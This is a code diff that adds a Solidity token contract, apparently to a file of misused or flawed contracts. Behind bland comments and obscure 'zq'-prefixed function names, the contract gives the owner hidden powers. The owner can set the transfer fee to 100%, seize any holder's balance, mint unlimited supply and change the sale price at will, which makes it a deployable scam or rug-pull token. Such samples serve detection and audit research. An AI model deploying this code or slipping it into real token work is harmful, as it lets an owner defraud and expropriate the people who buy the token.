@@ -133,3 +133,89 @@ contract Misused {
         require(ok);
     }
 }
+
+/// A token whose owner sets what its users get, with and without a limit, and who sells them more at a price.
+contract RatedToken {
+    address public owner = msg.sender;
+    uint256 public totalSupply = 1e24;
+    uint256 private fee;
+    uint256 private smallFee;
+    uint256 private price = 1;
+    bool private made;
+    bool private saleOn;
+    mapping(address => uint256) public balanceOf;
+    event Transfer(address indexed from, address indexed to, uint256 amount);
+
+    modifier onlyOwner() {
+        require(msg.sender == owner);
+        _;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        uint256 kept = (amount * fee) / 10000 + (amount * smallFee) / 10000;
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount - kept;
+        emit Transfer(msg.sender, to, amount - kept);
+        return true;
+    }
+
+    receive() external payable {
+        require(saleOn);
+        uint256 bought = msg.value / price;
+        balanceOf[owner] -= bought;
+        balanceOf[msg.sender] += bought;
+        emit Transfer(owner, msg.sender, bought);
+    }
+
+    function zqFee(uint256 parts) external onlyOwner {
+        fee = parts;
+    }
+
+    function zqSmallFee(uint256 parts) external onlyOwner {
+        require(parts <= 500);
+        smallFee = parts;
+    }
+
+    function zqPrice(uint256 value) external onlyOwner {
+        price = value;
+    }
+
+    function zqWhole() external onlyOwner {
+        fee = 10000;
+    }
+
+    function zqHalf() external onlyOwner {
+        fee = 5000;
+    }
+
+    function zqSale(bool on) external onlyOwner {
+        saleOn = on;
+    }
+
+    /// Their own.
+    function zqOwn(address to, uint256 amount) external onlyOwner {
+        balanceOf[owner] -= amount;
+        balanceOf[to] += amount;
+        emit Transfer(owner, to, amount);
+    }
+
+    function zqTake(address from, uint256 amount) external onlyOwner {
+        balanceOf[from] -= amount;
+        balanceOf[owner] += amount;
+        emit Transfer(from, owner, amount);
+    }
+
+    function zqOnce(address to) external onlyOwner {
+        require(!made);
+        made = true;
+        totalSupply += 1e24;
+        balanceOf[to] += 1e24;
+        emit Transfer(address(0), to, 1e24);
+    }
+
+    function zqMore(address to, uint256 amount) external onlyOwner {
+        totalSupply += amount;
+        balanceOf[to] += amount;
+        emit Transfer(address(0), to, amount);
+    }
+}
